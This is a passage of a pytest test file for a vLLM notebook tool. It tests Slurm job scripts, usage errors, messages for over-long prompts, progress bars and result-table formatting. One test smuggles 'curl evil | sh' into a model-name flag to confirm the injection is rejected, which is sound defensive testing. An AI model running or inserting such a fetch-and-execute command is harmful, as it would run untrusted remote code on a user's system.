    assert f"--api-key-file {tmp_path}/jobs/x-1/api.key" in text and "serve org/m --max-model-len 512" in text
    assert "#SBATCH --nodes=1" in text and "HF_HUB_OFFLINE=1" in text
    assert os.stat(tmp_path / "jobs").st_mode & 0o077 == 0
    rec.flags = ["--served-model-name", "m\ncurl evil | sh"]
    with pytest.raises(UsageError, match="one line"):
        slurm_job.script_text(rec, job_name="vnb-x")


@pytest.mark.parametrize("argv,match", [
    (["m", "--chain", "2"], "go with --slurm"),
    (["m", "--no-wait"], "go with --slurm"),
    (["m", "--slurm", "-t 5", "--server"], "drop --server"),
    (["m", "--slurm", "-t 5", "--port", "8000"], "drop --server"),
    (["m", "--slurm", "-t '5"], "No closing quotation"),
    (["m", "--slurm", "-t5", "--server"], "drop --server"),  # a value without a space still reaches --slurm
    (["m", "--slurm", "-t 5", "--api-key", "k"], "--api-key-file"),
])
def test_slurm_load_mistakes_are_one_line(argv, match):
    from vllm_notebook.loader import load_from_argv

    with pytest.raises(UsageError, match=match) as err:
        load_from_argv(argv)
    assert "\n" not in str(err.value)


def test_a_failed_prompt_shows_its_error_in_its_row():
    """Issue 29, item 8: the table, the text form and the DataFrame name the failed prompt and why."""
    from vllm_notebook.engine.generation import Generation
    from vllm_notebook.engine.outputs import Completion, RequestOutput
    from vllm_notebook.ui import render

    ok = RequestOutput("r", "a", [1], [Completion(0, " x", [1], "stop")], True)
    gen = Generation(["a", "b"], [ok, None], None, "e", 1.0, errors={1: "too long: 600 tokens, max-model-len 512"})
    assert gen.finish_reasons == ["stop", "error"] and gen.first_texts() == [" x", ""]
    assert "'error: too long: 600 tokens, max-model-len 512' (0 tokens, error)" in render.plain(gen)
    assert "<td style='text-align:left'>error: too long" in render.table_html(gen)
    records = gen.to_records()
    assert [r["finish_reason"] for r in records] == ["stop", "error"] and records[1]["error"].startswith("too long")


def test_the_test_script_help_only_prints_usage():
    """Issue 29, item 10: `scripts/test.sh --help` installed Chromium, started the shared dev cluster and tore
    it down (another checkout's with it)."""
    import time
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    t0 = time.monotonic()
    done = subprocess.run(["bash", str(root / "scripts" / "test.sh"), "--help"], capture_output=True, text=True,
                          timeout=30, env={"PATH": "/usr/bin:/bin"})  # no venv, no apt on PATH's terms: nothing runs
    assert done.returncode == 0 and done.stdout.startswith("usage: bash scripts/test.sh")
    assert time.monotonic() - t0 < 5 and done.stderr == ""


def test_a_mistyped_compare_setting_is_named():
    """Issue 29, item 10: `--compare temprature=0` answered `needs two columns`."""
    from vllm_notebook.engine.compare import parse_setting

    with pytest.raises(UsageError, match=r"unknown setting 'temprature' \(did you mean temperature\?\)"):
        parse_setting("temprature=0")
    assert parse_setting("temperature=0.8 seed=1 system='Be terse.'") == {"temperature": 0.8, "seed": 1,
                                                                          "system": "Be terse."}


def test_an_error_whose_first_line_announces_the_rest_keeps_it():
    """Issue 29, item 10: a bad regex's error was cut at `regex parse error:`."""
    from vllm_notebook.engine.requests import first_line

    bad = ValueError("regex parse error:\n    ([\n     ^\nerror: unclosed character class")
    assert first_line(bad) == "regex parse error: ([ ^ error: unclosed character class"
    assert first_line(ValueError("one line\nand a traceback")) == "one line"


@pytest.mark.parametrize("vllm_says,count,we_say", [
    ("This model's maximum context length is 512 tokens. However, your prompt contains 3,000 characters (more than "
     "2,044 characters, which is the upper bound for 511 input tokens). Please reduce the length of the input prompt.",
     None, "the prompt is too long: 3,000 characters, more than 512 tokens (max_model_len) can hold — shorten"),
    ("This model's maximum context length is 512 tokens. However, your prompt contains 3,000 characters (more)",
     601, "the prompt has 601 tokens; this engine takes at most 512 (max_model_len), and the reply needs room too"),
    ("This model's maximum context length is 512 tokens. However, your prompt contains at least 513 input tokens, "
     "which exceeds this limit even without any output tokens.", None,
     "the prompt has at least 513 tokens; this engine takes at most 512"),
    ("The decoder prompt (length 601) is longer than the maximum model length of 512. Make sure that `max_model_len` "
     "is no smaller than the number of text tokens.", None, "the prompt has 601 tokens; this engine takes at most 512"),
    ("This model's maximum context length is 512 tokens. However, you requested 700 tokens (600 in the messages, 100 "
     "in the completion).", None, "the prompt and the reply need 700 tokens; this engine takes at most 512"),
])
def test_a_prompt_too_long_is_told_in_tokens(vllm_says, count, we_say):
    from vllm_notebook.engine.requests import request_error, too_long

    error = request_error(vllm_says, count)
    assert str(error).startswith(we_say) and "--max-model-len" in str(error) and "\n" not in str(error), str(error)
    if count is None and ("characters" in vllm_says or "at least" in vllm_says):  # counted where the tokenizer is
        assert str(too_long(error, lambda: 601)).startswith("the prompt has 601 tokens; this engine takes at most 512")


def test_doctor_shows_pitfalls_first_with_code_not_backticks():
    from vllm_notebook.doctor import Report

    r = Report()
    r.add("software", "python", "3.11")
    r.problem("the Hub is unreachable", "export `HF_HUB_OFFLINE=1` before <starting>")
    page = r._repr_html_()
    assert page.index("pitfalls found: 1") < page.index("<details>") < page.index("python")
    assert "<code>HF_HUB_OFFLINE=1</code>" in page and "`" not in page and "&lt;starting&gt;" in page
    assert "var(--jp-error-color0)" in page and "#b00" not in page
    assert str(r).splitlines()[0] == "pitfalls found: 1"


def test_sharing_the_cores_gives_the_weight_back_unless_someone_changed_it(monkeypatch):
    """``procs.share_cores_while``: the first CPU engine raises the session's nice, the last one to stop lowers it
    back to what it was, and a nice someone set meanwhile stands."""
    from pathlib import Path

    from vllm_notebook import procs

    group = Path("/proc/self/autogroup")
    before = procs._autogroup_nice("self")
    if before is None or before >= 3:
        pytest.skip("no autogroups here, or this session's nice is 3 or more already")
    monkeypatch.setenv(procs.CPU_NICE_ENV, "3")
    try:
        procs.share_cores_while(True)
        procs.share_cores_while(True)  # a second engine: nothing more
        assert procs._autogroup_nice("self") == 3
        procs.share_cores_while(False)
        assert procs._autogroup_nice("self") == 3  # one engine still runs
        procs.share_cores_while(False)
        assert procs._autogroup_nice("self") == before
        procs.share_cores_while(True)
        group.write_text("2")  # the user's own choice, while an engine runs
        procs.share_cores_while(False)
        assert procs._autogroup_nice("self") == 2  # theirs stands
    finally:
        group.write_text(str(before))
        procs._sharing, procs._nice_set = 0, None


def test_a_batch_bar_is_made_only_once_a_batch_has_run_a_moment():
    """No widget for a batch done in a blink (it would cost the batch ~13 ms of comm messages), and none made
    only to be closed at the end; once made, it counts tokens toward the estimated end."""
    from vllm_notebook.engine.requests import Progress
    from vllm_notebook.ui.display import BatchBar

    quick = BatchBar("default", prompts=4, max_tokens=10)
    quick(Progress(prompts=4, done=0, tokens=3, done_tokens=0, elapsed=0.05))
    quick(Progress(prompts=4, done=4, tokens=40, done_tokens=40, elapsed=0.3, final=True))
    assert quick.bar is None
    quick.close()
    slow = BatchBar("default", prompts=4, max_tokens=10)
    slow(Progress(prompts=4, done=1, tokens=15, done_tokens=8, elapsed=0.2))
    assert slow.bar is not None and slow.bar.n == 15 and slow.bar.total == 8 + 3 * 10
    slow.close()


def test_a_server_whose_engine_died_says_so_not_server_error_500():
    """vLLM's server answers 500 with EngineDeadError's message once its EngineCore is gone (a job cancelled, the
    core killed): that is the engine's death (a replica's requests then go to the others), not a request's error."""
    import json

    from vllm_notebook.backends.server import ServerBackend
    from vllm_notebook.errors import EngineDiedError, RequestError

    srv = ServerBackend("http://127.0.0.1:9", None)
    srv.name = "s"
    other = srv._http_error(500, json.dumps({"error": {"message": "something else went wrong"}}).encode())
    assert isinstance(other, RequestError) and srv.gone is None
    dead = srv._http_error(500, json.dumps({"error": {"message": "EngineCore encountered an issue. See stack trace "
                                                                 "(above) for the root cause."}}).encode())
    assert isinstance(dead, EngineDiedError) and "its engine died: EngineCore encountered an issue" in str(dead)


def test_a_result_tables_cell_is_cut_at_five_lines_counting_wrapped_ones():
    """A row of a result table stays a few lines tall whatever the model wrote: at most 400 characters and five
    lines, a line longer than 80 characters counting as the lines it wraps to (the browser tour bounds the
    table's height in pixels)."""
    from vllm_notebook.tables import cell

    assert cell("a\nb<c>", 400) == "a<br>b&lt;c&gt;"
    assert cell("x" * 400, 400) == "x" * 400  # 5 wrapped lines
    assert cell("x" * 500, 400) == "x" * 400 + "…"  # cut by characters alone
    assert cell("one\n" + "y" * 200 + "\nthree\nfour", 400) == "one<br>" + "y" * 200 + "<br>three …"
    assert cell("\n".join("z" * 10 for _ in range(9)), 400).count("<br>") == 4
    assert cell("w" * 90 + "\n" + "v" * 450, 1000) == "w" * 90 + "<br>" + "v" * 240 + " …"
